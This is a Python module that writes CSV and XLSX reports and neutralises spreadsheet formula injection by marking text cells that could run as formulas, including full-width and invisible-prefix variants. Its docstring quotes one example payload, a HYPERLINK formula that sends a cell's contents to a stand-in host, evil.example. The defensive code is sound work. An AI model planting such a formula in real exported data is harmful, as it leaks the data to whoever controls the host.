"""Every CSV and XLSX the project writes, written one way: text stays text.

Excel, LibreOffice and Google Sheets run a cell whose text begins with `=`, `+`, `-` or
`@` as a formula, so a payee named `=HYPERLINK("http://evil.example/?x="&A1,"Clicca")`
would send the row away when the report is opened (OWASP, "CSV injection"). Text cells
that a spreadsheet could take for a formula are therefore marked as text: in a CSV with a
single quote in front, in an XLSX with the cell's quote prefix (the value itself is kept
as typed, and stays text even when someone edits the cell). Numbers stay numbers: only
`str` cells are looked at, so an amount is passed as a number, never as its digits.

The rule is wider than the four characters: their full-width forms (`＝`, `＋`, `－`,
`＠`, which Japanese and Chinese input methods type and Excel reads as the ASCII ones) and
the other forms that NFKC folds into them; a tab or a carriage return first (OWASP's rule);
and any of these after spaces or characters that do not show (a zero-width space, a BOM,
a control character), which some spreadsheets skip or trim before they look.
`defusedcsv` covers the four ASCII characters only, and no XLSX: one rule for both
formats is this module.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

Cell = str | int | float | Decimal | None
"""A value to write: text, a number, or nothing (an empty cell)."""

FORMULA_TRIGGERS = frozenset("=+-@")
"""What makes a spreadsheet evaluate a cell, as the first character it sees."""

ALWAYS_MARKED = frozenset("\t\r")
"""First characters OWASP marks whatever follows: some readers drop them, then look."""

TEXT_MARK = "'"
"""The single quote that tells a spreadsheet the rest of the cell is text."""

_UNSEEN = frozenset({"Cc", "Cf"})
"""Unicode categories that do not show: control and format characters."""

_REPLACEMENT = "\ufffd"


def runs_as_formula(text: str) -> bool:
    """True when a spreadsheet could take `text` for a formula (the rule above)."""
    if text[:1] in ALWAYS_MARKED:
        return True
    for char in text:
        if char.isspace() or unicodedata.category(char) in _UNSEEN:
            continue
        return unicodedata.normalize("NFKC", char)[:1] in FORMULA_TRIGGERS
    return False


def neutralised(text: str) -> str:
    """`text` as a spreadsheet must show it: behind a single quote when it could run."""
    return TEXT_MARK + text if runs_as_formula(text) else text


def csv_text(rows: Iterable[Sequence[Cell]]) -> str:
    """The rows as CSV (comma, `\\n` between rows): empty cells for None, text neutralised.

    Every text is quoted, numbers are not: Python quotes only what holds the delimiter, a
    quote or the line terminator, and a lone carriage return in a name would start a new
    row in Excel (whose first cell nothing would have neutralised).
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerows([_csv_value(cell) for cell in row] for row in rows)
    return buffer.getvalue()


def _csv_value(cell: Cell) -> str | int | float | Decimal:
    if cell is None:
        return ""
    if isinstance(cell, str):
        return neutralised(cell)
    return cell


@dataclass(frozen=True)
class Styled:
    """A cell of an XLSX sheet with how it looks: bold, a number format."""

    value: Cell
    bold: bool = False
    number_format: str | None = None


@dataclass(frozen=True)
class Sheet:
    """One worksheet: its title, its rows (an empty row is a blank line), rows kept in view."""

    title: str
    rows: Sequence[Sequence[Cell | Styled]]
    frozen_rows: int = 0


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """The sheets as an XLSX workbook, every text a value (never a formula).

    Characters XML cannot carry (controls but tab, newline and carriage return) are written
    as U+FFFD: openpyxl refuses them, and a name must not take the whole report down.
    """
    book = Workbook()
    book.remove(book.worksheets[0])
    for sheet in sheets:
        worksheet = book.create_sheet(title=sheet.title)
        for number, row in enumerate(sheet.rows, start=1):
            for column, item in enumerate(row, start=1):
                styled = item if isinstance(item, Styled) else Styled(item)
                if styled == Styled(None):
                    continue
                cell = worksheet.cell(number, column)
                if isinstance(styled.value, str):
                    cell.value = ILLEGAL_CHARACTERS_RE.sub(_REPLACEMENT, styled.value)
                    cell.data_type = "s"  # openpyxl makes any text beginning with '=' a formula
                    cell.quotePrefix = runs_as_formula(styled.value)
                else:
                    cell.value = styled.value
                if styled.bold:
                    cell.font = Font(bold=True)
                if styled.number_format is not None:
                    cell.number_format = styled.number_format
        if sheet.frozen_rows:
            worksheet.freeze_panes = worksheet.cell(sheet.frozen_rows + 1, 1)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
